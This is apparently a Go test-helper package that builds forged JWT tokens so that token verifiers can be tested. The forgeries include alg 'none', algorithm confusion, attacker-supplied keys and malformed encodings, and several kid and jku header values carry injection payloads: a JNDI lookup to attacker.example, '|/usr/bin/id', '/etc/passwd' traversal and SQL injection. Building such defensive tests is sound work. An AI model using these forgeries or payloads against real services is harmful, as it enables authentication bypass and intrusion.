// Package tokentest makes forged tokens, for tests of whatever accepts tokens (S34).
package tokentest

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	_ "crypto/sha256" // for crypto.SHA256
	_ "crypto/sha512" // for crypto.SHA384 and crypto.SHA512
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"strings"
	"time"
)

// A Forgery is a token that nobody may accept.
type Forgery struct{ Name, Token string }

// Forgeries returns forgeries of valid, a compact JWS. Those that need the key
// (headers and claims that are wrong though the signature is right) are among
// them when material, as token.Generate returns it, is given; nil leaves them out.
func Forgeries(algorithm string, material []byte, valid string) []Forgery {
	f := &forger{algorithm: algorithm, material: material, valid: valid}
	f.header, f.payload, f.signature = parts(valid)
	f.algorithms()
	f.signatures()
	f.texts()
	f.otherKeys()
	if material != nil {
		f.headers()
		f.claims()
	}
	return f.all
}

type forger struct {
	algorithm, valid           string
	material                   []byte
	header, payload, signature string
	all                        []Forgery
}

func (f *forger) add(name, token string) {
	if token != f.valid {
		f.all = append(f.all, Forgery{name, token})
	}
}

// algorithms changes alg and leaves or drops the signature.
func (f *forger) algorithms() {
	for _, none := range []string{"none", "None", "NONE", "nOnE", "none ", ""} {
		head := encode(fmt.Sprintf(`{"alg":%q,"typ":"JWT"}`, none))
		f.add("alg "+none+", no signature", head+"."+f.payload+".")
		f.add("alg "+none+", its old signature", head+"."+f.payload+"."+f.signature)
	}
	for _, alg := range []string{
		`"HS256"`, `"HS384"`, `"HS512"`, `"ES256"`, `"ES384"`, `"RS256"`, `"PS256"`, `"EdDSA"`, `"dir"`, `"A256GCMKW"`,
		`"` + strings.ToLower(f.algorithm) + `"`, `"` + f.algorithm + ` "`, `["` + f.algorithm + `"]`, `["none","` + f.algorithm + `"]`,
		`{"alg":"` + f.algorithm + `"}`, `null`, `true`, `256`,
	} {
		if alg != `"`+f.algorithm+`"` {
			f.add("alg "+alg, encode(`{"alg":`+alg+`,"typ":"JWT"}`)+"."+f.payload+"."+f.signature)
		}
	}
	f.add("no alg", encode(`{"typ":"JWT"}`)+"."+f.payload+"."+f.signature)
	f.add("header empty object", encode(`{}`)+"."+f.payload+"."+f.signature)
	f.add("alg none twice over", encode(`{"alg":"none","alg":"`+f.algorithm+`"}`)+"."+f.payload+".")
}

// signatures leaves what is signed and changes the signature.
func (f *forger) signatures() {
	mac := decode(f.signature)
	with := func(name string, signature []byte) {
		f.add(name, f.header+"."+f.payload+"."+encode(string(signature)))
	}
	f.add("signature empty", f.header+"."+f.payload+".")
	with("signature zero", make([]byte, len(mac)))
	with("signature all ones", []byte(strings.Repeat("\xff", len(mac))))
	with("signature one zero byte", []byte{0})
	with("signature without its last byte", mac[:len(mac)-1])
	with("signature without its first byte", mac[1:])
	with("signature halved", mac[:len(mac)/2])
	with("signature with a byte more", append(append([]byte{}, mac...), 0))
	with("signature doubled", append(append([]byte{}, mac...), mac...))
	with("signature with a bit flipped at its start", flip(mac, 0))
	with("signature with a bit flipped at its end", flip(mac, len(mac)-1))
	with("signature in hexadecimal", fmt.Appendf(nil, "%x", mac))
	with("signature encoded twice", []byte(f.signature))
	f.add("signature without its last character", f.valid[:len(f.valid)-1])
	f.add("payload altered", f.header+"."+encode(string(flip(decode(f.payload), 2)))+"."+f.signature)
	f.add("payload of an administrator", f.header+"."+encode(`{"sub":"admin","exp":9999999999}`)+"."+f.signature)
	f.add("payload empty", f.header+".."+f.signature)
	f.add("header and payload exchanged", f.payload+"."+f.header+"."+f.signature)
}

// texts writes the same token in other ways.
func (f *forger) texts() {
	protected, payload, signature := f.header, f.payload, f.signature
	f.add("flattened JSON", fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, payload, protected, signature))
	f.add("general JSON", fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, payload, protected, signature))
	f.add("JSON, header not protected", fmt.Sprintf(`{"payload":%q,"header":{"alg":"none"},"signature":""}`, payload))
	f.add("empty", "")
	f.add("two dots", "..")
	f.add("one part", protected)
	f.add("two parts", protected+"."+payload)
	f.add("four parts", f.valid+"."+signature)
	f.add("four parts, the last empty", f.valid+".")
	f.add("four parts, the first empty", "."+f.valid)
	f.add("JWE, five parts", encode(`{"alg":"dir","enc":"A256GCM"}`)+".."+payload+"."+payload+"."+signature)
	f.add("JWE, compressed", encode(`{"alg":"dir","enc":"A256GCM","zip":"DEF"}`)+".."+payload+"."+payload+"."+signature)
	f.add("padded header", pad(protected)+"."+payload+"."+signature)
	f.add("padded payload", protected+"."+pad(payload)+"."+signature)
	f.add("padded signature", f.valid+"=")
	f.add("stray bits in the header", stray(protected)+"."+payload+"."+signature)
	f.add("stray bits in the payload", protected+"."+stray(payload)+"."+signature)
	f.add("stray bits in the signature", protected+"."+payload+"."+stray(signature))
	for name, c := range map[string]string{"blank": " ", "tab": "\t", "line feed": "\n", "carriage return": "\r", "NUL": "\x00", "plus": "+", "slash": "/", "percent": "%2E", "no-break space": "\u00a0"} {
		f.add(name+" before", c+f.valid)
		f.add(name+" after", f.valid+c)
		f.add(name+" inside the payload", protected+"."+payload[:4]+c+payload[4:]+"."+signature)
		f.add(name+" inside the signature", protected+"."+payload+"."+signature[:4]+c+signature[4:])
	}
	f.add("quoted", `"`+f.valid+`"`)
	f.add("with its scheme", "Bearer "+f.valid)
	f.add("twice", f.valid+","+f.valid)
	f.add("upper case", strings.ToUpper(f.valid))
	f.add("full-width dots", strings.ReplaceAll(f.valid, ".", "\uff0e"))
	f.add("larger than 8 KiB", protected+"."+strings.Repeat("A", 8<<10)+"."+signature)
	f.add("larger than 1 MiB", protected+"."+strings.Repeat("A", 1<<20)+"."+signature)
}

// otherKeys signs with what an attacker has or guesses.
func (f *forger) otherKeys() {
	sign := func(name, alg string, secret []byte) {
		input := encode(`{"alg":"`+alg+`","typ":"JWT"}`) + "." + f.payload
		f.add(name+", "+alg, input+"."+encode(string(mac(alg, secret, input))))
	}
	for _, alg := range []string{"HS256", "HS384", "HS512"} {
		sign("empty secret", alg, nil)
		sign("guessed secret", alg, []byte("secret"))
		sign("secret of zeros", alg, make([]byte, 64))
		sign("random secret", alg, fresh(64))
		if public := publicKey(f.material); public != nil && !strings.HasPrefix(f.algorithm, "HS") {
			sign("public key as secret", alg, public)
			sign("public key in PEM as secret", alg, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public}))
		}
		if f.material != nil && strings.HasPrefix(f.algorithm, "HS") && alg != f.algorithm {
			sign("our secret with another algorithm", alg, f.material)
		}
	}
	_, private, _ := ed25519.GenerateKey(rand.Reader)
	jwk := fmt.Sprintf(`{"kty":"OKP","crv":"Ed25519","x":%q}`, encode(string(private.Public().(ed25519.PublicKey))))
	input := encode(`{"alg":"EdDSA","typ":"JWT","jwk":`+jwk+`}`) + "." + f.payload
	f.add("key of the attacker's in jwk", input+"."+encode(string(ed25519.Sign(private, []byte(input)))))
}

// headers are wrong, and rightly signed.
func (f *forger) headers() {
	for name, members := range map[string]string{
		"crit": `,"crit":["exp"]`, "crit empty": `,"crit":[]`, "crit b64": `,"crit":["b64"],"b64":true`, "b64 false": `,"crit":["b64"],"b64":false`,
		"b64 alone": `,"b64":false`, "zip": `,"zip":"DEF"`, "enc": `,"enc":"A256GCM"`, "cty": `,"cty":"JWT"`,
		"jwk": `,"jwk":{"kty":"oct","k":"AAAA"}`, "jku": `,"jku":"https://attacker.example/keys"`, "jku of this host": `,"jku":"http://127.0.0.1/keys"`,
		"x5u": `,"x5u":"https://attacker.example/cert"`, "x5c": `,"x5c":["MIIB"]`, "x5t": `,"x5t":"AAAA"`, "nonce": `,"nonce":"AAAA"`,
		"alg twice": `,"alg":"` + f.algorithm + `"`, "alg and none": `,"alg":"none"`, "alg escaped, twice": `,"\u0061lg":"none"`,
		"typ twice": `,"typ":"JWT"`, "typ a list": `,"x":1`,
		"kid unknown": `,"kid":"unknown"`, "kid empty": `,"kid":""`, "kid a number": `,"kid":1`, "kid a list": `,"kid":["a"]`, "kid null": `,"kid":null`,
		"kid a path": `,"kid":"../../../../dev/null"`, "kid a file": `,"kid":"/etc/passwd"`, "kid SQL": `,"kid":"x' UNION SELECT 'key'--"`,
		"kid a command": `,"kid":"|/usr/bin/id"`, "kid a template": `,"kid":"${jndi:ldap://attacker.example/}"`, "kid with a line break": `,"kid":"a\nb"`,
		"kid with NUL": `,"kid":"a\u0000"`, "kid too long": `,"kid":"` + strings.Repeat("a", 65) + `"`, "kid of a kilobyte": `,"kid":"` + strings.Repeat("a", 1024) + `"`,
		"not UTF-8": ",\"kid\":\"\xff\"", "deep": `,"a":` + strings.Repeat("[", 400) + strings.Repeat("]", 400),
	} {
		f.signed("header: "+name, `{"alg":"`+f.algorithm+`","typ":"JWT"`+members+`}`, string(decode(f.payload)))
	}
	for name, header := range map[string]string{
		"array": `[{"alg":"` + f.algorithm + `"}]`, "string": `"` + f.algorithm + `"`, "null": `null`, "cut": `{"alg":"` + f.algorithm + `"`,
		"two": `{"alg":"` + f.algorithm + `"}{"alg":"none"}`, "trailing comma": `{"alg":"` + f.algorithm + `",}`, "single quotes": `{'alg':'` + f.algorithm + `'}`,
		"BOM": "\xef\xbb\xbf" + `{"alg":"` + f.algorithm + `"}`, "comment": `{"alg":"` + f.algorithm + `"/**/}`, "name in capitals": `{"ALG":"` + f.algorithm + `"}`,
		"larger than 1 KiB": `{"alg":"` + f.algorithm + `"` + strings.Repeat(" ", 1024) + `}`,
	} {
		f.signed("header: "+name, header, string(decode(f.payload)))
	}
	f.signed("nested", `{"alg":"`+f.algorithm+`","typ":"JWT"}`, f.valid)
}

// claims are wrong, and rightly signed.
func (f *forger) claims() {
	now := time.Now().Unix()
	for name, payload := range map[string]string{
		"exp missing": `{"sub":"x"}`, "exp a float": `{"exp":99999999999.5}`, "exp with an exponent": `{"exp":1e11}`, "exp a string": `{"exp":"99999999999"}`,
		"exp huge": `{"exp":99999999999999999999}`, "exp without end": `{"exp":1e400}`, "exp after the year 9999": `{"exp":253402300800}`, "exp negative": `{"exp":-1}`,
		"exp null": `{"exp":null}`, "exp true": `{"exp":true}`, "exp a list": `{"exp":[99999999999]}`, "exp an object": `{"exp":{}}`, "exp zero": `{"exp":0}`,
		"exp past": fmt.Sprintf(`{"exp":%d}`, now-1), "exp now": fmt.Sprintf(`{"exp":%d}`, now), "exp twice": `{"exp":1,"exp":99999999999}`,
		"exp in capitals": `{"EXP":99999999999}`, "exp nested": `{"claims":{"exp":99999999999}}`,
		"nbf ahead": fmt.Sprintf(`{"exp":99999999999,"nbf":%d}`, now+120), "nbf a string": `{"exp":99999999999,"nbf":"0"}`, "nbf a float": `{"exp":99999999999,"nbf":1.5}`,
		"iat ahead": fmt.Sprintf(`{"exp":99999999999,"iat":%d}`, now+120), "iat a string": `{"exp":99999999999,"iat":"0"}`, "iat negative": `{"exp":99999999999,"iat":-1}`,
		"aud a number": `{"exp":99999999999,"aud":1}`, "aud mixed": `{"exp":99999999999,"aud":["a",1]}`, "aud an object": `{"exp":99999999999,"aud":{}}`, "aud null": `{"exp":99999999999,"aud":null}`,
		"not an object": `[{"exp":99999999999}]`, "a string": `"exp"`, "not JSON": `exp=99999999999`, "followed by more": `{"exp":99999999999}{}`, "cut": `{"exp":99999999999`,
		"with BOM": "\xef\xbb\xbf" + `{"exp":99999999999}`, "not UTF-8": "{\"exp\":99999999999,\"sub\":\"\xff\"}", "half of a surrogate": `{"exp":99999999999,"sub":"\ud800"}`,
	} {
		f.signed("claims: "+name, `{"alg":"`+f.algorithm+`","typ":"JWT"}`, payload)
	}
}

func (f *forger) signed(name, header, payload string) {
	input := encode(header) + "." + encode(payload)
	f.add(name, input+"."+encode(string(sign(f.algorithm, f.material, input))))
}

func sign(algorithm string, material []byte, input string) []byte {
	if strings.HasPrefix(algorithm, "HS") {
		return mac(algorithm, material, input)
	}
	private, err := x509.ParsePKCS8PrivateKey(material)
	if err != nil {
		panic("tokentest: material: " + err.Error())
	}
	digest := crypto.SHA256.New()
	digest.Write([]byte(input))
	switch key := private.(type) {
	case ed25519.PrivateKey:
		return ed25519.Sign(key, []byte(input))
	case *rsa.PrivateKey:
		signature, _ := rsa.SignPKCS1v15(nil, key, crypto.SHA256, digest.Sum(nil))
		return signature
	case *ecdsa.PrivateKey:
		r, s, _ := ecdsa.Sign(rand.Reader, key, digest.Sum(nil))
		signature := make([]byte, 64)
		r.FillBytes(signature[:32])
		s.FillBytes(signature[32:])
		return signature
	}
	panic("tokentest: unknown key")
}

func mac(algorithm string, secret []byte, input string) []byte {
	hash := map[string]crypto.Hash{"HS256": crypto.SHA256, "HS384": crypto.SHA384, "HS512": crypto.SHA512}[algorithm]
	h := hmac.New(hash.New, secret)
	h.Write([]byte(input))
	return h.Sum(nil)
}

// publicKey returns the PKIX form of an asymmetric key, or nil.
func publicKey(material []byte) []byte {
	private, err := x509.ParsePKCS8PrivateKey(material)
	if err != nil {
		return nil
	}
	public, err := x509.MarshalPKIXPublicKey(private.(crypto.Signer).Public())
	if err != nil {
		return nil
	}
	return public
}

func parts(token string) (header, payload, signature string) {
	header, rest, _ := strings.Cut(token, ".")
	payload, signature, _ = strings.Cut(rest, ".")
	return header, payload, signature
}

func encode(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }

func decode(text string) []byte {
	b, err := base64.RawURLEncoding.DecodeString(text)
	if err != nil {
		panic("tokentest: not a valid token: " + err.Error())
	}
	return b
}

func pad(segment string) string { return segment + strings.Repeat("=", max(1, (4-len(segment)%4)%4)) }

// stray sets the lowest of the bits that no byte uses, or returns segment when it has none.
func stray(segment string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(segment)%4 == 0 {
		return segment
	}
	last := strings.IndexByte(alphabet, segment[len(segment)-1])
	return segment[:len(segment)-1] + string(alphabet[last|1])
}

func flip(b []byte, i int) []byte {
	c := append([]byte{}, b...)
	c[i] ^= 1
	return c
}

func fresh(size int) []byte {
	b := make([]byte, size)
	_, _ = rand.Read(b)
	return b
}
